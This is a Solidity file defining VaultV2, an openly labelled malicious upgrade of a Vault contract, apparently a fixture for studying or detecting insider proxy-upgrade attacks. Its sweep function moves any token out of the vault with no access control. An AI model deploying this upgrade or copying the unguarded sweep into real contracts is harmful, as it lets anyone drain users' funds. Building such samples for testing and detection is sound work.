// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import "./Vault.sol";

/// @title VaultV2
/// @notice A malicious upgrade of Vault, the kind an insider holding the proxy
/// admin key installs. It inherits Vault unchanged, so the storage layout is
/// the same, and adds sweep, which moves any token out of the vault with no
/// access control at all. It emits no event of its own: the token's Transfer
/// event is the evidence.
contract VaultV2 is Vault {
    function sweep(address token, address to, uint256 amount) external {
        _safeTransfer(token, to, amount);
    }
}
